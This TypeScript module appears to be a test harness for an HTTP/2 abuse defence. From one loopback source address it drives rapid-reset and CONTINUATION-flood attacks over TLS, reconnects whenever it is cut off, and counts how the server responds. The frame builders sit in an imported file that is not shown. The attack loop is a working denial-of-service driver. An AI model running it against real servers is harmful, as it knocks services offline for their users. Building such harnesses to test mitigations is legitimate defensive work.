// HTTP/2 abuse from one address, as an attacker runs it: TLS with ALPN h2,
// then raw frames as fast as the socket drains — rapid reset (HEADERS +
// RST_STREAM, `burst` streams a write) or a CONTINUATION flood (header
// blocks that never end) — reconnecting whenever the server closes the
// session, until `until`. Counts what the server did: sessions, GOAWAYs, and
// connections refused (closed before the TLS handshake finished: a ban at
// accept) or never answered (dropped in the kernel). Stops by itself.
import { connect, type TLSSocket } from 'node:tls';
import { continuationFlood, attackerPreface, rapidResetBurst, T } from './h2-frames.js';

export type H2AbuseKind = 'rapid-reset' | 'continuation';

export interface H2AbuseOptions {
  host: string;
  port: number;
  /** Source address (a 127.x.y.z on loopback). */
  localAddress: string;
  kind: H2AbuseKind;
  until: number;
  /** Streams per write (rapid reset). Default 100. */
  burst?: number;
  servername?: string;
  /** Give up on a connection attempt after this long (a kernel drop never answers). Default 1000 ms. */
  connectTimeoutMs?: number;
}

export interface H2AbuseResult {
  sessions: number;
  streams: number;
  goaways: number;
  /** Connections closed before the TLS handshake completed (refused at accept). */
  refused: number;
  /** Connection attempts that got no answer within connectTimeoutMs. */
  unanswered: number;
  /** ms since the epoch of the first refused or unanswered attempt; 0 if none. */
  firstRefusedAt: number;
  startedAt: number;
}

function once(o: H2AbuseOptions, res: H2AbuseResult): Promise<void> {
  return new Promise((resolve) => {
    let secure = false;
    let id = 1;
    let done = false;
    const burst = o.burst ?? 100;
    const authority = o.servername ?? 'localhost';
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      s.destroy();
      resolve();
    };
    const refuse = (kind: 'refused' | 'unanswered') => {
      res[kind]++;
      if (res.firstRefusedAt === 0) res.firstRefusedAt = Date.now();
    };
    const s: TLSSocket = connect({
      host: o.host,
      port: o.port,
      localAddress: o.localAddress,
      servername: authority,
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    } as unknown as Parameters<typeof connect>[0]);
    const timer = setTimeout(() => {
      if (!secure) refuse('unanswered');
      finish();
    }, o.connectTimeoutMs ?? 1000);
    s.on('error', () => {});
    s.on('close', () => {
      if (!secure && !done) refuse('refused');
      finish();
    });
    let pending: Buffer = Buffer.alloc(0);
    s.on('data', (d: Buffer) => {
      // Frames re-assembled across chunks: count the server's GOAWAYs.
      pending = pending.length === 0 ? d : Buffer.concat([pending, d]);
      let i = 0;
      while (i + 9 <= pending.length) {
        const len = pending.readUIntBE(i, 3);
        if (i + 9 + len > pending.length) break;
        if (pending[i + 3] === T.GOAWAY) res.goaways++;
        i += 9 + len;
      }
      pending = pending.subarray(i);
    });
    s.once('secureConnect', () => {
      secure = true;
      clearTimeout(timer);
      res.sessions++;
      s.write(attackerPreface());
      // One write a turn of the event loop: as fast as the socket drains, and the server's frames still get read.
      const pump = () => {
        if (done || s.destroyed) return;
        if (Date.now() >= o.until) return finish();
        const n = o.kind === 'rapid-reset' ? burst : 1;
        const chunk =
          o.kind === 'rapid-reset' ? rapidResetBurst(id, burst, authority) : continuationFlood(id, authority, 16);
        id += 2 * n;
        res.streams += n;
        if (id > 0x7fff0000) return finish();
        if (s.write(chunk)) setImmediate(pump);
        else s.once('drain', pump);
      };
      pump();
    });
  });
}

export async function runH2Abuse(o: H2AbuseOptions): Promise<H2AbuseResult> {
  const res: H2AbuseResult = {
    sessions: 0,
    streams: 0,
    goaways: 0,
    refused: 0,
    unanswered: 0,
    firstRefusedAt: 0,
    startedAt: Date.now(),
  };
  while (Date.now() < o.until) {
    await once(o, res);
    // A refused attacker retries at once, like a real one: every attempt costs the shield an accept (or nothing, in the kernel).
  }
  return res;
}
